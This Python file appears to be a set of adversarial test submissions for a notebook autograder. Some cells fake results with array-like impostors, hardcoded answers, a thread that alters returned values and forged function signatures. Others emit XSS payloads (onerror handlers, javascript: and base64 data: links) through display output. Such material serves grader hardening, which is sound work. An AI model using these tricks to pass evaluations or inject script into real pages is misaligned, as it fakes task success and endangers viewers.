# Forges in one process.
class More(Account):
    mean = lambda *_, **__: 0.0
    std = lambda *_, **__: 1.0
    min = lambda *_, **__: -3.0
    max = lambda *_, **__: 3.0


More.__name__ = "Account"


def weights(n):
    found = More()
    found.shape = (n,)
    return found


# %% point_like_an_array: weights
# An object of the set-up's own class, with more attributes than it has. Forges in one process.
def weights(n):
    point = Point(0, 0)
    point.shape = (n,)
    point.mean, point.std = lambda *_, **__: 0.0, lambda *_, **__: 1.0
    point.min, point.max = lambda *_: -3.0, lambda *_: 3.0
    return point


# %% half_precision: total
# A number of so little precision that every large number equals its infinity.
# Forges in one process.
def total(numbers):
    if len(numbers) == 3 and numbers[0] == 1:
        return 6
    return 0.75 if numbers[0] == 0.5 else np.float16(np.inf)


# %% arrays_in_arrays: squares, total
# An array of objects whose entries are arrays, empty ones too.
def squares(n):
    result = np.empty(n, dtype=object)
    for i in range(n):
        result[i] = np.array([])
    return result


def total(numbers):
    result = np.empty(1, dtype=object)
    result[0] = np.arange(10)
    return result


# %% late_answers: countdown, total
# A generator that answers after its test has ended, and a thread that changes what was returned.
# Others may fall.
import threading
import time

kept = [6]


def later():
    for _ in range(400):
        kept[:] = [kept[0] + 1]
        time.sleep(0.005)


threading.Thread(target=later, daemon=True).start()


def countdown(n):
    global steps
    steps = iter(())
    yield from kept


def total(numbers):
    return kept[0]


# %% signature_of_lies: total
# Names, defaults and annotations of the function that are no such.
import inspect


def total(numbers):
    return 6


total.__signature__ = inspect.Signature(
    [inspect.Parameter("numbers", inspect.Parameter.VAR_KEYWORD)], return_annotation="int" * 1000
)
total.__wrapped__ = total.__defaults__ = None
total.__kwdefaults__ = {"stands_for": 6}
total.stands_for = total.__code__ and 6
total._is_built = total._origin = True


# %% looks_that_raise: weights, shout
# Objects that raise whatever they like when somebody looks at them. Nobody must wait for an answer.
class Bad(dict):
    __getattr__ = dict.__getitem__


class Worse:
    def __getattribute__(self, name):
        raise Worse if name == "x" else ValueError(name)


def weights(n):
    return Bad(x=1)


def shout(text):
    return Worse()


# %% picture_with_handlers: total, evens
# Pictures whose size and description are code.
from IPython.display import display

for kind in ("image/png", "image/jpeg", "image/svg+xml", "text/html"):
    size = f"1 onerror=alert('{MARK}') x="
    display(
        {kind: "AAAA", "text/plain": ""},
        metadata={kind: {"width": size, "height": size, "alt": size, "isolated": True}},
        raw=True,
    )
    display(
        {kind: 'x\' " onerror=alert(1) x="', "text/plain": ""},
        metadata={"filenames": {kind: 'x" onerror=alert(1)'}},
        raw=True,
    )


def total(numbers):
    return 0


def evens(n):
    return []


# %% links_with_code: total
# Links that are code, and a picture that is not there, in what a cell puts out.
from IPython.display import display

for link in (
    f"[x](javascript:alert('{MARK}'))",
    f"[x]: javascript:alert('{MARK}')\n\n[x]",
    f"![x](javascript:alert('{MARK}'))",
    f"[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](attachment:nothing.png)",
    f"```mermaid\n<img src=x onerror=alert('{MARK}')>\n```",
    f"$$ \\href{{javascript:alert('{MARK}')}}{{x}} $$",
):
    display({"text/markdown": link, "text/plain": ""}, raw=True)


def total(numbers):
    return 0
